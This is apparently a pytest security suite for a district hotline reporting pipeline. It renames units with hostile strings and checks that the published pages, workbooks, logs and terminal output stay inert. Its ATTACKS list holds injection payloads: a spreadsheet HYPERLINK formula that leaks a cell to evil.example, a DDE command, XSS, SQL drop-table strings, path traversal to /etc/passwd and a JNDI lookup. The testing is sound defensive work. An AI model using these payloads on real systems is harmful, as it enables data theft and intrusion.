"""A district whose every name attacks: nothing that a run writes or prints obeys one of them.

The sample's quarter with its units, categories, files and reasons named by somebody who means harm.
Everything still adds up, so it is published, and all that was written is searched.
"""

import base64
import csv
import hashlib
import json
import re
import shutil
import stat
import zipfile

import dagster as dg
import pytest
from conftest import EXPORTS, PROJECT, hotline, read
from lxml import html
from rewrite import rows_of, xlsx

from orchestration.common.errors import InputError
from orchestration.warehouse.dbt import parse_project

SEEDS = PROJECT / "dbt_project" / "seeds"
# Every script among the attacks would set the page's title to this.
LOUD = "attacked"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"局")',
    "=cmd|' /C calc'!A0",
    "+1+1|局",
    "-2+3|局",
    "@SUM(A1)局",
    "＝1+1局",
    f"<script>document.title='{LOUD}'</script>局",
    f"<img src=x onerror=\"document.title='{LOUD}'\">",
    f"\"><svg/onload=document.title='{LOUD}'>",
    f"javascript:document.title='{LOUD}'",
    "</title></style><!--局",
    "'); drop table marts.hotline_unit_quarter; --",
    '"]; drop table x; --',
    "../../../../tmp/hotline-escaped",
    "..\\..\\局",
    "/etc/passwd",
    "[bold red]局[/] [/]",
    "\\[/]局",
    "[局](http://evil.example) | **x** ![](http://evil.example/p.png)",
    "{{ config.secret }}{% raw %}局",
    "{0.__class__}%s%n局",
    "${jndi:ldap://evil.example}局",
    "${{title}}局",
    "&lt;b&gt;&#60;局",
    "_x001B_[31m局",
]
# Characters that a terminal obeys or that turn text around; a line's end is looked at by itself.
STEERING = [chr(code) for code in (*range(9), *range(11, 32), 127, *range(128, 160))]
STEERING += "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FILES = ["=1+1|`a`.csv", "<b onload=alert(1)>\\[red]'; drop--.csv", "\x1b[31m\u202e换.xlsx"]


def renamed():
    """Each attack in the place of a unit's name, which keeps its place in every total."""
    with (SEEDS / "unit.csv").open(encoding="utf-8", newline="") as file:
        names = list(dict.fromkeys(row["unit_name"] for row in csv.DictReader(file)))
    with (SEEDS / "unit_alias.csv").open(encoding="utf-8", newline="") as file:
        aliases = list(csv.DictReader(file))
    shared = {"区公安分局"}
    free = [name for name in names if name not in shared]
    assert len(free) >= len(ATTACKS)
    to = dict(zip(free, ATTACKS, strict=False))
    with (SEEDS / "unit.csv").open(encoding="utf-8", newline="") as file:
        codes = {row["unit_code"]: row["unit_name"] for row in csv.DictReader(file)}
    # A unit's other written names go the same way, made different by a mark.
    for alias in aliases:
        name = codes.get(alias["unit_code"], "")
        if name in to and alias["alias_name"] not in to:
            to[alias["alias_name"]] = f"{to[name]}{len(to)}"
    return to


def replace(path, to, target, encoding="utf-8", written=None):
    with path.open(encoding=encoding, newline="") as file:
        rows = list(csv.reader(file))
    blanks = " \u3000\t\u00a0"
    rows = [[to.get(cell.strip(blanks), cell) for cell in row] for row in rows]
    with target.open("w", encoding=written or encoding, newline="") as file:
        csv.writer(file).writerows(rows)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """The home of that district, what the run printed, and each attack by its unit's old name."""
    root = tmp_path_factory.mktemp("hostile")
    site, to = root / "site", renamed()
    for folder in ("contracts", "layouts", "bulletin"):
        shutil.copytree(EXPORTS / folder, site / folder)
    (site / "seeds").mkdir()
    for seed in SEEDS.glob("*.csv"):
        replace(seed, to, site / "seeds" / seed.name)
    source, quarter = EXPORTS / "2022Q2", site / "exports" / "2022Q2"
    quarter.mkdir(parents=True)
    replace(source / "ticket.csv", to, quarter / FILES[0], "utf-8-sig")
    replace(source / "suggestion.csv", to, quarter / FILES[1], "gb18030", "utf-8")
    replace(source / "bulletin.csv", to, quarter / "bulletin.csv", "utf-8-sig")
    rows = [[to.get(cell.strip(), cell) for cell in row] for row in rows_of("mailbox")]
    (quarter / FILES[2]).write_bytes(xlsx({"=1+1": rows}))
    (quarter / "notice.md").write_text(f"示例 {' '.join(ATTACKS[6:10])} \x1b[31m\u202e", "utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOTLINE_SITE", str(site))
        ran = hotline("run", "2022Q2", home=root / "home", exports=site / "exports")
    return root / "home", ran, to


def pages(home):
    return sorted((home / "published").rglob("*.html"))


def test_it_is_published_and_nothing_steers_the_screen(attacked):
    _, ran, _ = attacked
    assert ran.status == 0, ran.out + ran.err
    assert not set(STEERING) & set(ran.out + ran.err)


def test_names_are_kept_to_the_letter_and_run_as_nothing(attacked):
    """No SQL ran, no template was filled: the marts hold what was written."""
    home, _, to = attacked
    names = {name for (name,) in read(home, "select unit_name from marts.unit_quarter")}
    assert len(names & set(ATTACKS)) > len(ATTACKS) // 2
    assert all(name in ATTACKS or name not in to for name in names)
    ((tables,),) = read(
        home, "select count(*) from duckdb_tables() where table_name = 'hotline_unit_quarter'"
    )
    assert tables == 1


def test_no_path_leads_out_of_the_home_or_is_named_by_an_attack(attacked):
    home, _, _ = attacked
    assert {path.name for path in home.parent.iterdir()} == {"home", "site"}
    names = {str(path.relative_to(home)) for path in home.rglob("*")}
    assert all(re.fullmatch(r"[\w./ =-]+", name) for name in names)


def test_a_home_is_closed_to_others(attacked):
    home, _, _ = attacked
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    open_to_others = [
        str(path.relative_to(home))
        for path in home.rglob("*")
        if stat.S_IMODE(path.stat().st_mode) & (stat.S_IRWXG | stat.S_IRWXO)
    ]
    assert open_to_others == []


def test_pages_hold_no_element_of_an_attack(attacked):
    home, _, _ = attacked
    assert len(pages(home)) > 100
    for path in pages(home):
        page = html.document_fromstring(path.read_text("utf-8"))
        policy = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]
        for script in page.iter("script"):
            if script.get("type") != "application/json":
                digest = hashlib.sha256((script.text or "").encode()).digest()
                assert f"'sha256-{base64.b64encode(digest).decode()}'" in policy, path
        for element in page.iter():
            attributes = dict(element.attrib)
            assert not [name for name in attributes if name.startswith("on")], path
            assert not attributes.get("href", "").startswith(("javascript:", "http")), path
            assert attributes.get("src") is None, path


def test_a_browser_runs_no_attack(attacked, page):
    home, _, to = attacked
    published = home / "published"
    for place in ("bulletin/index.html", "bulletin/2022Q2/index.html", "audit/2022Q2/index.html"):
        page.goto((published / place).as_uri())
        assert page.title() != LOUD
    page.goto((published / "bulletin/2022Q2/unit/ecology_environment.html").as_uri())
    assert to["区生态环境分局"] in page.inner_text("h1")
    assert page.title() != LOUD


@pytest.mark.parametrize("place", ["bulletin/2022Q2/index.html", "audit/2022Q2/index.html"])
@pytest.mark.parametrize("has_policy", [True, False])
def test_the_policy_of_a_page_stops_a_script_that_got_into_it(
    place, has_policy, published_home, browser, tmp_path
):
    """As if escaping had failed; without the policy the script runs, so the test could fail."""
    injected = f"<script>document.title='{LOUD}'</script>"
    text = (published_home / "published" / place).read_text("utf-8")
    text = text.replace('<main id="main">', f'<main id="main">{injected}')
    assert injected in text
    if not has_policy:
        text = text.replace("Content-Security-Policy", "none")
    path = tmp_path / "page.html"
    path.write_text(text, "utf-8")
    context = browser.new_context()
    opened = context.new_page()
    opened.goto(path.as_uri())
    assert (opened.title() != LOUD) == has_policy
    assert opened.locator("th button").count() > 0, "the page's own script has run"
    context.close()


def test_workbooks_and_documents_hold_text_alone(attacked):
    home, _, _ = attacked
    found = [*home.rglob("*.xlsx"), *home.rglob("*.docx")]
    assert {path.name for path in found} >= {"bulletin.xlsx", "bulletin.docx", "audit.xlsx"}
    for path in found:
        with zipfile.ZipFile(path) as archive:
            parts = {
                name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
            }
        xml = "".join(text for name, text in parts.items() if name.endswith((".xml", ".rels")))
        for mark in ("<f>", "<f ", "<hyperlink", "<w:hyperlink", "externalLink", '"External"'):
            assert mark not in xml, (path, mark)
        if path.suffix == ".xlsx":
            assert 'quotePrefix="1"' in parts["xl/styles.xml"], path


def test_csv_for_scripts_holds_no_formula(attacked):
    home, _, to = attacked
    ran = hotline(
        *("trace", "2022Q2", "--unit", to["区人社局"], "--measure", "rework_count", "--csv"),
        home=home,
    )
    assert ran.status == 0, ran.out + ran.err
    header, *rows = csv.reader(ran.out.splitlines())
    assert rows and header[0] == "file_name"
    assert {row[0] for row in rows} == {f"'{FILES[0]}"}


def test_dagsters_tables_have_the_cells_that_they_should(attacked):
    home, _, _ = attacked
    told = []
    with dg.DagsterInstance.from_config(str(home / "dagster")) as instance:
        for source in ("ticket", "suggestion", "mailbox"):
            event = instance.get_latest_materialization_event(dg.AssetKey(["raw", source]))
            told += event.asset_materialization.metadata["files"].value.splitlines()[2:]
    assert len(told) == 3, "a file, a line"
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in told} == {6}
    assert not re.search(r"(?<!\\)[<\[*]", "".join(told))
    assert not set(STEERING) & set("".join(told))


def test_the_log_is_json_and_says_nothing_but_what_ran(attacked):
    home, _, _ = attacked
    text = (home / "logs" / "hotline.jsonl").read_text("utf-8")
    entries = [json.loads(line) for line in text.splitlines()]
    known = {"at", "run_id", "quarter", "event", "stage", "seconds"}
    assert {key for entry in entries for key in entry} == known
    assert (entries[0]["event"], entries[-1]["event"]) == ("run_started", "run_published")


def test_a_name_that_nobody_knows_is_told_on_one_line(attacked):
    home, _, _ = attacked
    name = "\x1b[2J[/]\n✓ 已发布 [link=http://evil.example]x[/link]\\[bold]"
    ran = hotline("trace", "2022Q2", "--unit", name, "--measure", "due_count", home=home)
    assert ran.status == 2
    assert not set(STEERING) & set(ran.err)
    assert ran.err.count("\n") == 1
    assert "[link=http://evil.example]x[/link]\\[bold]" in ran.err, "no markup was read"


@pytest.mark.parametrize("file", ["unit.csv", "known_discrepancy.csv"])
@pytest.mark.parametrize("attack", ["\x1b[31m局", "局\n伪造", "\u202e局", "局\x00", "局\x85"])
def test_rules_with_what_cant_be_printed_are_refused(file, attack, tmp_path, monkeypatch):
    seeds = shutil.copytree(SEEDS, tmp_path / "site" / "seeds")
    with (seeds / file).open(encoding="utf-8", newline="") as opened:
        rows = list(csv.reader(opened))
    rows[1][1] = attack
    with (seeds / file).open("w", encoding="utf-8", newline="") as opened:
        csv.writer(opened).writerows(rows)
    monkeypatch.setenv("HOTLINE_SITE", str(seeds.parent))
    with pytest.raises(InputError, match="bad_seed") as told:
        parse_project()
    assert file in str(told.value) and attack not in str(told.value)


@pytest.mark.parametrize("code", ["../../x", "a/b", "a b", "<b>", "a.b"])
def test_a_units_code_is_a_plain_word(code, tmp_path, monkeypatch):
    """It is part of the names of pages."""
    seeds = shutil.copytree(SEEDS, tmp_path / "site" / "seeds")
    path = seeds / "unit.csv"
    path.write_text(path.read_text("utf-8").replace("health,", f"{code},"), "utf-8")
    monkeypatch.setenv("HOTLINE_SITE", str(seeds.parent))
    with pytest.raises(InputError, match="bad_seed"):
        parse_project()
